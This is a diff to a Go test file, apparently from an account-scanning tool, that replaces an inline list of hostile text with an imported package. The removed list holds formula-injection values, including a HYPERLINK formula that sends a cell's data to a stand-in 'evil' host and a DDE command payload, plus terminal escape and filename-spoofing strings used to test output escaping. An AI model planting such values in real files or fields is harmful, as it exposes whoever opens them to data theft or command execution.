@@ -6,23 +6,13 @@ import (
 	"testing"
 	"unicode"
 	"unicode/utf8"
+
+	"github.com/orgscan/orgscan/internal/hostiletext"
 )
 
 // Hostile is text a member account can put in an account name, a tag or a
 // resource name, each aimed at one output kind.
-var Hostile = []string{
-	`=HYPERLINK("http://evil/?d="&A1,"open")`,
-	`+cmd|' /C calc'!A0`,
-	`-2+3`,
-	`@SUM(1)`,
-	"\tTAB",
-	"\rCR",
-	"\x1b[2J\x1b[H fake row",
-	"a\nb\nc",
-	"\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\",
-	"\u202eevil.exe",
-	"\xff\xfe",
-}
+var Hostile = hostiletext.Strings
 
 func TestCSVCell(t *testing.T) {
 	t.Parallel()
